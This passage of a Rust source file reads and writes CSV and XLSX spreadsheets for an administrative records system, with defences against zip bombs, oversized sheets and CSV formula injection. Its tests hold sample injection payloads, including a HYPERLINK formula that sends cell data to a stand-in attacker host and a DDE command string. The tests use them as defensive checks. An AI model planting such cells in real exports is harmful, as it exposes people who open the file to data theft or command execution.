//! Office files in and out as rows of strings: CSV and XLSX (Excel, WPS).
//!
//! Administrators keep lists such as the responsibility list (职责清单) in spreadsheets. This crate
//! turns a file's bytes into `Vec<Vec<String>>` (header first) for the core's `from_rows` functions,
//! and rows back into a file, so the core stays free of spreadsheet libraries.
//!
//! ```no_run
//! # use gongzhi_office::{read_rows, write_rows, Format};
//! # use gongzhi_core::cases::responsibility::ResponsibilityList;
//! # let rules = gongzhi_core::cases::rules::CaseRules::qitaihe().unwrap();
//! # let (taxonomy, departments) = (&rules.taxonomy, &rules.departments);
//! let bytes = std::fs::read("职责清单.xlsx").unwrap();
//! let rows = read_rows("职责清单.xlsx", &bytes).unwrap();
//! let list = ResponsibilityList::from_rows(&rows, taxonomy, departments);
//! let xlsx = write_rows(Format::Xlsx, "职责清单", &list.unwrap().to_rows()).unwrap();
//! ```
//!
//! Errors are the core's [`DataError`]: they name the file and, where known, the row and column.

use std::fmt::Write as _;
use std::io::Cursor;
use std::ops::ControlFlow;

use calamine::{Data, DataRef, Reader, Xlsx, open_workbook_from_rs};
use gongzhi_core::data::{DataError, Problem, RowError, csv_rows, csv_text};
use gongzhi_core::import::{ErrorList, Phase, Progress, Record, Template};
use rust_xlsxwriter::{Format as CellFormat, Workbook};

/// Row type shared with the core: the header first, then data rows.
pub type Rows = Vec<Vec<String>>;

/// The most an XLSX workbook may unpack to, all its parts together. A workbook is a zip archive:
/// a few hundred kilobytes of repeated XML can unpack to gigabytes.
pub const MAX_XLSX_UNPACKED: u64 = 256 * 1024 * 1024;

/// The most cells a worksheet may span, counting each row from column A to its last cell: two
/// cells far apart (A1 and XFD1048576) make a sheet of seventeen billion cells in a tiny file.
pub const MAX_SHEET_CELLS: u64 = 5_000_000;

/// Excel's own bounds: a cell beyond them comes from a damaged or forged file.
const MAX_ROWS: u32 = 1_048_576;
const MAX_COLUMNS: u32 = 16_384;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
}

impl Format {
    /// The format a file name says (`.csv`, `.xlsx`), case-insensitive.
    pub fn from_file_name(name: &str) -> Option<Format> {
        let lower = name.to_lowercase();
        if lower.ends_with(".csv") {
            Some(Format::Csv)
        } else if lower.ends_with(".xlsx") {
            Some(Format::Xlsx)
        } else {
            None
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Xlsx => "xlsx",
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Csv => "text/csv; charset=utf-8",
            Format::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
    }
}

fn file_error(file: &str, zh: String, en: String) -> DataError {
    DataError::one(file, RowError::file(Problem::other(zh, en)))
}

/// Reads a file by the format its name says.
pub fn read_rows(file: &str, bytes: &[u8]) -> Result<Rows, DataError> {
    match Format::from_file_name(file) {
        Some(Format::Csv) => read_csv(file, bytes),
        Some(Format::Xlsx) => read_xlsx(file, bytes),
        None => Err(file_error(
            file,
            "只支持 .csv 和 .xlsx 文件".into(),
            "only .csv and .xlsx files are supported".into(),
        )),
    }
}

/// Reads a file row by row, by the format its name says, without holding the sheet: `each` gets
/// every row that has a non-empty cell, with its 1-based row number as the spreadsheet shows it,
/// the first one being the header. The cells are lent (trimmed, one buffer reused from row to
/// row); `each` may stop the reading with [`ControlFlow::Break`]. Every row after the first
/// counts as read in `progress`, with the bytes read so far for CSV; for XLSX the sheet's declared
/// dimension gives the number of rows.
///
/// A file whose content is not of the format its name says is refused, as is a CSV file that is
/// not UTF-8 (naming the row).
pub fn stream_rows(
    file: &str,
    bytes: &[u8],
    progress: &Progress,
    each: impl FnMut(usize, &[String]) -> ControlFlow<()>,
) -> Result<(), DataError> {
    let zip = bytes.starts_with(b"PK\x03\x04");
    if is_geojson(file) {
        return stream_geojson(file, bytes, progress, each);
    }
    match Format::from_file_name(file) {
        Some(Format::Csv) if zip => Err(file_error(
            file,
            "文件扩展名为 .csv，内容却是Excel工作簿；请用 .xlsx 扩展名".into(),
            "the file is named .csv but holds an Excel workbook; name it .xlsx".into(),
        )),
        Some(Format::Csv) => stream_csv(file, bytes, progress, each),
        Some(Format::Xlsx) if !zip => Err(file_error(
            file,
            "文件不是有效的 .xlsx 工作簿（旧版 .xls 请另存为 .xlsx）".into(),
            "the file is not a valid .xlsx workbook (save an old .xls as .xlsx)".into(),
        )),
        Some(Format::Xlsx) => stream_xlsx(file, bytes, progress, each),
        None => Err(file_error(
            file,
            "只支持 .csv 和 .xlsx 文件".into(),
            "only .csv and .xlsx files are supported".into(),
        )),
    }
}

/// Whether a file name says GeoJSON (`.geojson`, `.json`).
pub fn is_geojson(name: &str) -> bool {
    let lower = name.to_lowercase();
    lower.ends_with(".geojson") || lower.ends_with(".json")
}

/// A FeatureCollection read as a sheet: the header (the properties' names, `lon`, `lat`) is row
/// 0 and feature *i* (counted from 0) is row *i* + 1.
fn stream_geojson(
    file: &str,
    bytes: &[u8],
    progress: &Progress,
    mut each: impl FnMut(usize, &[String]) -> ControlFlow<()>,
) -> Result<(), DataError> {
    let text = std::str::from_utf8(bytes).map_err(|_| {
        file_error(
            file,
            "GeoJSON 文件须为 UTF-8 编码".into(),
            "a GeoJSON file must be UTF-8".into(),
        )
    })?;
    let rows =
        gongzhi_core::territory::geojson::sheet_of_features(text).map_err(|(zh, en)| file_error(file, zh, en))?;
    progress.set_rows_total(rows.len().saturating_sub(1) as u64);
    for (n, row) in rows.iter().enumerate() {
        if each(n, row).is_break() {
            break;
        }
    }
    Ok(())
}

/// Reads a file against an import template, row by row: the first non-empty row must be a header
/// naming the template's columns (a missing required column refuses the file at once), every
/// later row is checked and, when good, given to `each` as a [`Record`]; every problem goes to
/// `errors` (the bad row counted in `progress`). `each` may add its own problems with the row (a
/// repeat, an unknown reference) by returning them. Nothing is decided here about writing: the
/// caller writes only when `errors` stays empty.
///
/// Returns the number of data rows read; a file without a header or without data rows is refused.
pub fn read_records(
    file: &str,
    bytes: &[u8],
    template: &Template,
    progress: &Progress,
    errors: &mut ErrorList,
    mut each: impl FnMut(Record) -> Result<ControlFlow<()>, Vec<RowError>>,
) -> Result<u64, DataError> {
    progress.set_phase(Phase::Reading);
    let mut header = None;
    let mut header_errors = None;
    let mut rows = 0u64;
    stream_rows(file, bytes, progress, |n, cells| {
        let Some(map) = &header else {
            match template.match_header(n, cells) {
                Ok(map) => {
                    header = Some(map);
                    return ControlFlow::Continue(());
                }
                Err(e) => {
                    header_errors = Some(e);
                    return ControlFlow::Break(());
                }
            }
        };
        rows += 1;
        let outcome = template.record(map, n, cells).and_then(&mut each);
        match outcome {
            Ok(flow) => flow,
            Err(problems) => {
                progress.bad_row();
                errors.extend(problems);
                ControlFlow::Continue(())
            }
        }
    })?;
    if let Some(e) = header_errors {
        return Err(DataError::new(file, e));
    }
    if header.is_none() || rows == 0 {
        return Err(file_error(
            file,
            format!("文件没有数据行（应有表头和至少一行{}）", template.name_zh),
            format!(
                "the file has no data rows (a header and at least one row of {})",
                template.name_en
            ),
        ));
    }
    Ok(rows)
}

/// A template as a file to fill in: XLSX with the header, the example row and a second sheet
/// 填写说明 explaining each column; CSV with the header and the example row.
pub fn template_file(template: &Template, format: Format) -> Result<Vec<u8>, DataError> {
    let rows = vec![template.header_row(), template.example_row()];
    match format {
        Format::Csv => Ok(write_csv(&rows)),
        Format::Xlsx => write_sheets(&[
            (template.name_zh, rows.as_slice()),
            ("填写说明", template.notes_rows(gongzhi_core::Lang::Zh).as_slice()),
        ]),
    }
}

/// Gives `each` the row in `cells[..used]` unless it is empty; counts it in `progress` unless it is
/// the first (the header).
fn emit(
    row: usize,
    cells: &[String],
    seen_first: &mut bool,
    progress: &Progress,
    bytes_read: u64,
    each: &mut impl FnMut(usize, &[String]) -> ControlFlow<()>,
) -> ControlFlow<()> {
    let mut used = cells.len();
    while used > 0 && cells[used - 1].is_empty() {
        used -= 1;
    }
    if used == 0 {
        return ControlFlow::Continue(());
    }
    if *seen_first {
        progress.row_read(bytes_read);
    }
    *seen_first = true;
    each(row, &cells[..used])
}

thread_local! {
    static CSV_READER: std::cell::Cell<Option<Box<csv_core::Reader>>> = const { std::cell::Cell::new(None) };
}

/// The thread's CSV reader, its automaton built once: building it costs more than reading a small
/// file, and every upload, preview and re-check reads its file again. (`csv_core::Reader`'s
/// `Clone` does not copy the whole automaton, so the reader is reset and reused, not cloned.)
struct CsvReader(Option<Box<csv_core::Reader>>);

impl CsvReader {
    fn take() -> CsvReader {
        let mut reader = CSV_READER
            .with(std::cell::Cell::take)
            .unwrap_or_else(|| Box::new(csv_core::ReaderBuilder::new().build()));
        reader.reset();
        CsvReader(Some(reader))
    }

    fn get(&mut self) -> &mut csv_core::Reader {
        self.0.as_mut().expect("a reader until dropped")
    }
}

impl Drop for CsvReader {
    fn drop(&mut self) {
        if let Some(reader) = self.0.take() {
            let _ = CSV_READER.try_with(|slot| slot.set(Some(reader)));
        }
    }
}

fn stream_csv(
    file: &str,
    bytes: &[u8],
    progress: &Progress,
    mut each: impl FnMut(usize, &[String]) -> ControlFlow<()>,
) -> Result<(), DataError> {
    use csv_core::ReadRecordResult;
    const BOM: &[u8] = "\u{feff}".as_bytes();
    let skipped = if bytes.starts_with(BOM) { BOM.len() } else { 0 };
    let mut reader = CsvReader::take();
    let mut input = &bytes[skipped..];
    // One record's unescaped fields end to end, and where each field ends; grown as needed.
    let mut fields = vec![0u8; 4096];
    let mut ends = vec![0usize; 64];
    let (mut used, mut ended) = (0, 0);
    let mut cells: Vec<String> = Vec::new();
    let mut seen_first = false;
    let mut row = 0;
    loop {
        // The whole file is in memory: once `input` is consumed, the empty slice tells the
        // reader the file has ended.
        let (result, read, written, found) = reader.get().read_record(input, &mut fields[used..], &mut ends[ended..]);
        input = &input[read..];
        used += written;
        ended += found;
        match result {
            ReadRecordResult::InputEmpty => continue,
            ReadRecordResult::OutputFull => {
                let len = fields.len() * 2;
                fields.resize(len, 0);
                continue;
            }
            ReadRecordResult::OutputEndsFull => {
                let len = ends.len() * 2;
                ends.resize(len, 0);
                continue;
            }
            ReadRecordResult::End => return Ok(()),
            ReadRecordResult::Record => {}
        }
        row += 1;
        cells.resize_with(ended, String::new);
        let mut start = 0;
        for (cell, &end) in cells.iter_mut().zip(&ends[..ended]) {
            let text = std::str::from_utf8(&fields[start..end]).map_err(|_| {
                DataError::one(
                    file,
                    RowError::row(
                        row,
                        Problem::other(
                            "文件不是UTF-8编码，请另存为“CSV UTF-8”格式",
                            "the file is not UTF-8; save it as \"CSV UTF-8\"",
                        ),
                    ),
                )
            })?;
            start = end;
            cell.clear();
            cell.push_str(restored(text.trim()).trim());
        }
        cells.truncate(ended);
        (used, ended) = (0, 0);
        let at = (bytes.len() - input.len()) as u64;
        if emit(row, &cells, &mut seen_first, progress, at.max(1), &mut each).is_break() {
            return Ok(());
        }
    }
}

/// [`stream_workbook`] with a panic inside it turned into the file's refusal: calamine 0.38
/// overflows (a panic wherever overflow checks are on, as in debug builds and fuzzing) on a cell
/// reference with too many column letters, found by fuzzing `import_xlsx`. An upload must get a
/// 422, never take the request (or the import job) down.
fn stream_xlsx(
    file: &str,
    bytes: &[u8],
    progress: &Progress,
    each: impl FnMut(usize, &[String]) -> ControlFlow<()>,
) -> Result<(), DataError> {
    std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        stream_workbook(file, bytes, progress, each)
    }))
    .unwrap_or_else(|_| {
        Err(file_error(
            file,
            "文件不是有效的 .xlsx 工作簿（工作表中有无法读取的单元格）".into(),
            "the file is not a valid .xlsx workbook (a sheet holds a cell that cannot be read)".into(),
        ))
    })
}

fn stream_workbook(
    file: &str,
    bytes: &[u8],
    progress: &Progress,
    mut each: impl FnMut(usize, &[String]) -> ControlFlow<()>,
) -> Result<(), DataError> {
    let unreadable = |detail: String| DataError::one(file, RowError::file(Problem::Syntax { detail }));
    let mut book = open_xlsx(file, bytes)?;
    let Some(sheet) = book.sheet_names().first().cloned() else {
        return Err(file_error(
            file,
            "工作簿没有工作表".into(),
            "the workbook has no worksheet".into(),
        ));
    };
    let mut reader = book
        .worksheet_cells_reader(&sheet)
        .map_err(|e| unreadable(e.to_string()))?;
    let dims = reader.dimensions();
    if dims.end.0 > dims.start.0 {
        // The first row is taken for the header.
        progress.set_rows_total(u64::from(dims.end.0 - dims.start.0));
    }
    let mut cells: Vec<String> = Vec::new();
    let mut current: Option<u32> = None;
    let mut seen_first = false;
    let mut spanned = 0u64;
    while let Some(cell) = reader.next_cell().map_err(|e| unreadable(e.to_string()))? {
        let (r, c) = cell.get_position();
        if r >= MAX_ROWS || c >= MAX_COLUMNS {
            return Err(unreadable(format!(
                "cell (row {}, column {}) is outside a worksheet",
                r + 1,
                c + 1
            )));
        }
        if current != Some(r) {
            spanned += cells.len() as u64;
            if spanned > MAX_SHEET_CELLS {
                return Err(too_big(file));
            }
            if let Some(prev) = current
                && emit(prev as usize + 1, &cells, &mut seen_first, progress, 0, &mut each).is_break()
            {
                return Ok(());
            }
            cells.iter_mut().for_each(String::clear);
            current = Some(r);
        }
        let c = c as usize;
        if cells.len() <= c {
            cells.resize_with(c + 1, String::new);
        }
        let out = &mut cells[c];
        out.clear();
        data_ref_text(cell.get_value(), out);
        let trimmed = out.trim();
        if trimmed.len() != out.len() {
            *out = trimmed.to_string();
        }
    }
    if let Some(prev) = current {
        let _ = emit(prev as usize + 1, &cells, &mut seen_first, progress, 0, &mut each);
    }
    Ok(())
}

/// A streamed cell as text, as [`read_xlsx`] reads it.
fn data_ref_text(d: &DataRef<'_>, out: &mut String) {
    match d {
        DataRef::Empty => {}
        DataRef::String(s) | DataRef::DateTimeIso(s) | DataRef::DurationIso(s) => out.push_str(s),
        DataRef::SharedString(s) => out.push_str(s),
        DataRef::Int(i) => {
            let _ = write!(out, "{i}");
        }
        DataRef::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => {
            let _ = write!(out, "{}", *f as i64);
        }
        DataRef::Float(f) => {
            let _ = write!(out, "{f}");
        }
        DataRef::Bool(b) => {
            let _ = write!(out, "{b}");
        }
        DataRef::DateTime(dt) => out.push_str(&cell_text(&Data::DateTime(*dt))),
        DataRef::Error(e) => {
            let _ = write!(out, "{e}");
        }
    }
}

/// Writes rows in a format; `sheet` names the worksheet of an XLSX file.
pub fn write_rows(format: Format, sheet: &str, rows: &[Vec<String>]) -> Result<Vec<u8>, DataError> {
    match format {
        Format::Csv => Ok(write_csv(rows)),
        Format::Xlsx => write_xlsx(sheet, rows),
    }
}

/// Reads UTF-8 CSV (with or without a byte-order mark).
pub fn read_csv(file: &str, bytes: &[u8]) -> Result<Rows, DataError> {
    let text = std::str::from_utf8(bytes).map_err(|e| {
        file_error(
            file,
            format!(
                "文件不是UTF-8编码（第{}字节起），请另存为“CSV UTF-8”格式",
                e.valid_up_to() + 1
            ),
            format!(
                "the file is not UTF-8 (from byte {}); save it as \"CSV UTF-8\"",
                e.valid_up_to() + 1
            ),
        )
    })?;
    let mut rows = csv_rows(file, text)?;
    for cell in rows.iter_mut().flatten() {
        if restored(cell).len() != cell.len() {
            *cell = restored(cell).trim().to_string();
        }
    }
    Ok(rows)
}

/// Writes CSV with a UTF-8 byte-order mark, so that spreadsheet programs show Chinese correctly.
/// A cell a spreadsheet would take for a formula gets a leading `'` ([`neutralised`]).
pub fn write_csv(rows: &[Vec<String>]) -> Vec<u8> {
    let rows: Vec<Vec<String>> = rows
        .iter()
        .map(|r| r.iter().map(|c| neutralised(c).into_owned()).collect())
        .collect();
    let mut out = "\u{feff}".as_bytes().to_vec();
    out.extend_from_slice(csv_text(&rows).as_bytes());
    out
}

/// Whether a spreadsheet program opening a CSV file would read a cell as a formula (or, for a tab
/// or carriage return, as one after trimming): it starts with `=`, `+`, `-`, `@`, a tab or a CR
/// (OWASP, "CSV Injection"). A resident named `=HYPERLINK("http://…","点击")` would otherwise be a
/// link, or a command, in the exporter's Excel.
pub fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A cell as written into a CSV file: prefixed with `'` when [`formula_like`], so that Excel and
/// WPS show it as text. Reading a CSV file takes that `'` off again ([`restored`]), so exports
/// import again unchanged.
pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if formula_like(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// A CSV cell as read: without the `'` [`neutralised`] put before a formula-like cell.
fn restored(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_like(rest) => rest,
        _ => cell,
    }
}

/// Reads the first worksheet of an XLSX workbook. Cells keep their place: row 1 of the sheet is
/// `rows[0]`, even when the sheet starts lower down, so row numbers in errors match what the user sees.
/// Numbers lose a `.0` when whole, dates become `YYYY-MM-DD` (with a time if they have one), booleans
/// `true`/`false`, and error cells their Excel text (`#N/A` …).
///
/// Read cell by cell as [`stream_rows`] does (not as one rectangle, whose size a forged file
/// chooses), within [`MAX_XLSX_UNPACKED`] and [`MAX_SHEET_CELLS`].
pub fn read_xlsx(file: &str, bytes: &[u8]) -> Result<Rows, DataError> {
    let mut rows: Rows = Vec::new();
    stream_xlsx(file, bytes, &Progress::new(bytes.len() as u64), |n, cells| {
        rows.resize_with(n - 1, Vec::new);
        rows.push(cells.to_vec());
        ControlFlow::Continue(())
    })?;
    Ok(rows)
}

/// Opens a workbook whose parts unpack within [`MAX_XLSX_UNPACKED`], as their sizes are declared
/// in the archive's directory.
fn open_xlsx<'a>(file: &str, bytes: &'a [u8]) -> Result<Xlsx<Cursor<&'a [u8]>>, DataError> {
    let unreadable = |detail: String| DataError::one(file, RowError::file(Problem::Syntax { detail }));
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|e| unreadable(e.to_string()))?;
    let mut unpacked = 0u64;
    for i in 0..archive.len() {
        let part = archive.by_index_raw(i).map_err(|e| unreadable(e.to_string()))?;
        unpacked = unpacked.saturating_add(part.size());
    }
    if unpacked > MAX_XLSX_UNPACKED {
        return Err(too_big(file));
    }
    open_workbook_from_rs(Cursor::new(bytes)).map_err(|e: calamine::XlsxError| unreadable(e.to_string()))
}

fn too_big(file: &str) -> DataError {
    file_error(
        file,
        format!(
            "工作簿过大（解压后超过 {} MB 或超过 {} 个单元格），请拆分为几个文件",
            MAX_XLSX_UNPACKED / 1024 / 1024,
            MAX_SHEET_CELLS
        ),
        format!(
            "the workbook is too large (over {} MB unpacked or over {} cells); split it into several files",
            MAX_XLSX_UNPACKED / 1024 / 1024,
            MAX_SHEET_CELLS
        ),
    )
}

fn cell_text(d: &Data) -> String {
    match d {
        Data::Empty => String::new(),
        Data::String(s) => s.trim().to_string(),
        Data::Int(i) => i.to_string(),
        Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
        Data::Float(f) => f.to_string(),
        Data::Bool(b) => b.to_string(),
        Data::DateTime(dt) => match dt.as_datetime() {
            Some(t) if dt.is_datetime() && t.time() == chrono::NaiveTime::MIN => t.date().to_string(),
            Some(t) if dt.is_datetime() => t.format("%Y-%m-%d %H:%M:%S").to_string(),
            _ => dt.as_f64().to_string(),
        },
        Data::DateTimeIso(s) | Data::DurationIso(s) => s.clone(),
        Data::Error(e) => e.to_string(),
    }
}

/// Writes one worksheet named `sheet`: every cell as text (so codes such as `06010` keep their
/// leading zero), the header bold and frozen, columns sized to their content.
pub fn write_xlsx(sheet: &str, rows: &[Vec<String>]) -> Result<Vec<u8>, DataError> {
    write_sheets(&[(sheet, rows)])
}

/// Writes a workbook of several worksheets, each as [`write_xlsx`] writes one.
pub fn write_sheets(sheets: &[(&str, &[Vec<String>])]) -> Result<Vec<u8>, DataError> {
    let name = sheets.first().map(|(s, _)| *s).unwrap_or("");
    let fail = |e: rust_xlsxwriter::XlsxError| {
        file_error(
            name,
            format!("无法生成XLSX文件：{e}"),
            format!("cannot write the XLSX file: {e}"),
        )
    };
    let mut book = Workbook::new();
    let bold = CellFormat::new().set_bold();
    let text = CellFormat::new().set_num_format("@");
    // Every cell is a string, never a formula; a formula-like one is also marked as Excel marks a
    // cell typed with a leading `'` (quotePrefix), so that editing it does not make it one.
    let quoted = CellFormat::new().set_num_format("@").set_quote_prefix();
    for (sheet, rows) in sheets {
        let ws = book.add_worksheet();
        ws.set_name(*sheet).map_err(fail)?;
        for (r, row) in rows.iter().enumerate() {
            let r = u32::try_from(r).map_err(|_| file_error(sheet, "行数超过上限".into(), "too many rows".into()))?;
            for (c, cell) in row.iter().enumerate() {
                let c = u16::try_from(c)
                    .map_err(|_| file_error(sheet, "列数超过上限".into(), "too many columns".into()))?;
                let format = match (r, formula_like(cell)) {
                    (0, _) => &bold,
                    (_, true) => &quoted,
                    _ => &text,
                };
                ws.write_string_with_format(r, c, cell, format).map_err(fail)?;
            }
        }
        if !rows.is_empty() {
            ws.set_freeze_panes(1, 0).map_err(fail)?;
        }
        ws.autofit();
    }
    book.save_to_buffer().map_err(fail)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Rows {
        vec![
            vec!["matter".into(), "delegated".into(), "legal_basis".into()],
            vec![
                "06010".into(),
                "是".into(),
                "《城市市容和环境卫生管理条例》第二十八条".into(),
            ],
            vec!["21".into(), "否".into(), "含逗号,和\"引号\"".into()],
        ]
    }

    #[test]
    fn rows_round_trip_through_xlsx_with_leading_zeros_and_chinese() {
        let bytes = write_rows(Format::Xlsx, "职责清单", &sample()).unwrap();
        assert_eq!(read_rows("清单.XLSX", &bytes).unwrap(), sample());
    }

    #[test]
    fn rows_round_trip_through_csv_with_a_byte_order_mark() {
        let bytes = write_rows(Format::Csv, "ignored", &sample()).unwrap();
        assert!(bytes.starts_with("\u{feff}".as_bytes()));
        assert_eq!(read_rows("list.csv", &bytes).unwrap(), sample());
    }

    #[test]
    fn numbers_and_dates_typed_into_a_spreadsheet_read_as_text() {
        let mut book = Workbook::new();
        let ws = book.add_worksheet();
        // Leave row 1 and column A empty: row numbers must still match the sheet.
        ws.write_string(1, 1, "item").unwrap();
        ws.write_string(1, 2, "valid_from").unwrap();
        ws.write_number(2, 1, 7.0).unwrap();
        let date = rust_xlsxwriter::ExcelDateTime::from_ymd(2026, 1, 1).unwrap();
        ws.write_datetime_with_format(2, 2, &date, &CellFormat::new().set_num_format("yyyy-mm-dd"))
            .unwrap();
        ws.write_number(3, 1, 2.5).unwrap();
        let rows = read_xlsx("x.xlsx", &book.save_to_buffer().unwrap()).unwrap();
        assert_eq!(
            rows,
            vec![
                vec![],
                vec!["".to_string(), "item".into(), "valid_from".into()],
                vec!["".to_string(), "7".into(), "2026-01-01".into()],
                vec!["".to_string(), "2.5".into()],
            ]
        );
    }

    fn streamed(file: &str, bytes: &[u8]) -> (Vec<(usize, Vec<String>)>, gongzhi_core::import::ProgressSnapshot) {
        let progress = Progress::new(bytes.len() as u64);
        let mut rows = Vec::new();
        stream_rows(file, bytes, &progress, |n, cells| {
            rows.push((n, cells.to_vec()));
            ControlFlow::Continue(())
        })
        .unwrap();
        (rows, progress.snapshot())
    }

    #[test]
    fn streaming_gives_the_same_rows_as_reading_with_their_numbers() {
        for format in [Format::Xlsx, Format::Csv] {
            let mut rows = sample();
            rows.insert(2, vec![String::new(), String::new()]); // an empty row: skipped, still counted
            let bytes = write_rows(format, "居民", &rows).unwrap();
            let name = format!("居民.{}", format.extension());
            let (got, progress) = streamed(&name, &bytes);
            let numbers: Vec<usize> = got.iter().map(|(n, _)| *n).collect();
            assert_eq!(numbers, vec![1, 2, 4], "{format:?}");
            assert_eq!(got[2].1, sample()[2], "{format:?}");
            assert_eq!(progress.rows_read, 2, "{format:?}");
            assert!(progress.rows_total.is_some(), "{format:?}");
        }
    }

    #[test]
    fn streaming_keeps_the_sheet_row_numbers_and_reads_typed_cells() {
        let mut book = Workbook::new();
        let ws = book.add_worksheet();
        ws.write_string(1, 1, "item").unwrap();
        ws.write_number(2, 1, 7.0).unwrap();
        ws.write_number(4, 2, 2.5).unwrap();
        let (got, _) = streamed("x.xlsx", &book.save_to_buffer().unwrap());
        assert_eq!(
            got,
            vec![
                (2, vec!["".to_string(), "item".into()]),
                (3, vec!["".to_string(), "7".into()]),
                (5, vec!["".to_string(), "".into(), "2.5".into()]),
            ]
        );
    }

    #[test]
    fn streaming_refuses_a_file_whose_content_is_not_its_kind() {
        let xlsx = write_rows(Format::Xlsx, "s", &sample()).unwrap();
        let p = Progress::new(0);
        let never = |_: usize, _: &[String]| ControlFlow::Continue(());
        let e = stream_rows("x.csv", &xlsx, &p, never).unwrap_err();
        assert!(e.errors[0].message(gongzhi_core::Lang::Zh).contains(".xlsx"));
        let e = stream_rows("x.xlsx", b"a,b\n1,2\n", &p, never).unwrap_err();
        assert!(
            e.errors[0]
                .message(gongzhi_core::Lang::En)
                .contains("not a valid .xlsx")
        );
        let e = stream_rows("x.pdf", b"", &p, never).unwrap_err();
        assert_eq!(e.file, "x.pdf");
        let e = stream_rows("x.csv", b"a,b\n\xc7\xe5,1\n", &p, never).unwrap_err();
        assert_eq!(e.errors[0].row, Some(2));
    }

    #[test]
    fn a_template_file_reads_back_as_one_good_record_and_bad_rows_are_all_listed() {
        use gongzhi_core::import::registry::RESIDENTS;
        for format in [Format::Xlsx, Format::Csv] {
            let bytes = template_file(&RESIDENTS, format).unwrap();
            let name = format!("t.{}", format.extension());
            let (mut errors, p) = (ErrorList::default(), Progress::new(0));
            let mut names = Vec::new();
            let n = read_records(&name, &bytes, &RESIDENTS, &p, &mut errors, |r| {
                names.push(r.text("name").to_string());
                Ok(ControlFlow::Continue(()))
            })
            .unwrap();
            assert_eq!((n, names), (1, vec!["张秀英".to_string()]), "{format:?}");
            assert!(errors.is_empty());
        }

        let mut rows = vec![RESIDENTS.header_row(), RESIDENTS.example_row()];
        let mut bad = RESIDENTS.example_row();
        bad[6] = "230903198506150021".into(); // wrong check digit
        rows.push(bad.clone());
        bad[5] = String::new();
        rows.push(bad);
        let bytes = write_rows(Format::Xlsx, "居民", &rows).unwrap();
        let (mut errors, p) = (ErrorList::default(), Progress::new(0));
        read_records("r.xlsx", &bytes, &RESIDENTS, &p, &mut errors, |_| {
            Ok(ControlFlow::Continue(()))
        })
        .unwrap();
        assert_eq!((errors.bad_rows(), errors.total(), p.snapshot().bad_rows), (2, 3, 2));
        let e = errors.into_result("r.xlsx").unwrap_err();
        let rows: Vec<_> = e.errors.iter().map(|e| (e.row, e.column.clone())).collect();
        assert_eq!(
            rows,
            vec![
                (Some(3), Some("身份证号".into())),
                (Some(4), Some("姓名".into())),
                (Some(4), Some("身份证号".into()))
            ]
        );

        let header_only = write_rows(Format::Csv, "", &[vec!["姓名".into()]]).unwrap();
        let e = read_records("h.csv", &header_only, &RESIDENTS, &p, &mut ErrorList::default(), |_| {
            Ok(ControlFlow::Continue(()))
        })
        .unwrap_err();
        assert!(
            e.errors
                .iter()
                .any(|e| e.problem == Problem::MissingColumn && e.column.as_deref() == Some("网格编码"))
        );
    }

    /// Cells a spreadsheet would run as formulas (OWASP's list), as an attacker would name a
    /// resident or an organization.
    fn formulas() -> Rows {
        vec![
            vec!["姓名".into(), "备注".into()],
            vec![
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")".into(),
                "@SUM(1+1)*cmd|' /C calc'!A0".into(),
            ],
            vec!["+1+1".into(), "-2+3".into()],
            vec!["\t=1+1".into(), "\r=1+1".into()],
            vec!["张三".into(), "'已有引号".into()],
        ]
    }

    #[test]
    fn a_csv_export_writes_no_cell_a_spreadsheet_would_run_and_reads_back_unchanged() {
        let bytes = write_rows(Format::Csv, "居民", &formulas()).unwrap();
        let text = String::from_utf8(bytes.clone()).unwrap();
        let cells = csv_rows("x.csv", &text).unwrap();
        for cell in cells.iter().skip(1).flatten() {
            assert!(!formula_like(cell), "{cell:?} is written as a formula");
        }
        assert_eq!(cells[1][0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")");
        assert_eq!(cells[4], vec!["张三".to_string(), "'已有引号".into()]);
        let mut expected = formulas();
        expected[3] = vec!["=1+1".into(), "=1+1".into()]; // cells are trimmed when read
        assert_eq!(read_rows("x.csv", &bytes).unwrap(), expected);
        let (streamed, _) = streamed("x.csv", &bytes);
        let streamed: Rows = streamed.into_iter().map(|(_, r)| r).collect();
        assert_eq!(streamed, expected);
    }

    #[test]
    fn an_xlsx_export_writes_formula_like_cells_as_quoted_text() {
        let bytes = write_rows(Format::Xlsx, "居民", &formulas()).unwrap();
        let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
        let formulas_found = book.worksheet_formula("居民").unwrap();
        assert!(
            formulas_found.used_cells().all(|(_, _, f)| f.is_empty()),
            "no cell is a formula"
        );
        let styles = unzipped(&bytes, "xl/styles.xml");
        assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
        let mut expected = formulas();
        expected[3] = vec!["=1+1".into(), "=1+1".into()];
        assert_eq!(read_rows("x.xlsx", &bytes).unwrap(), expected);
    }

    fn unzipped(xlsx: &[u8], name: &str) -> String {
        use std::io::Read as _;
        let mut zip = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
        let mut text = String::new();
        zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    }

    #[test]
    fn bad_files_are_refused_with_their_name() {
        let e = read_rows("清单.xlsx", b"not a zip").unwrap_err();
        assert_eq!(e.file, "清单.xlsx");
        let e = read_rows("清单.csv", &[0xc7, 0xe5, 0xb5, 0xa5]).unwrap_err(); // GBK "清单"
        assert!(e.errors[0].message(gongzhi_core::Lang::Zh).contains("UTF-8"));
        assert!(read_rows("清单.xls", b"").is_err());
    }

    fn refused_as_too_big(e: DataError) {
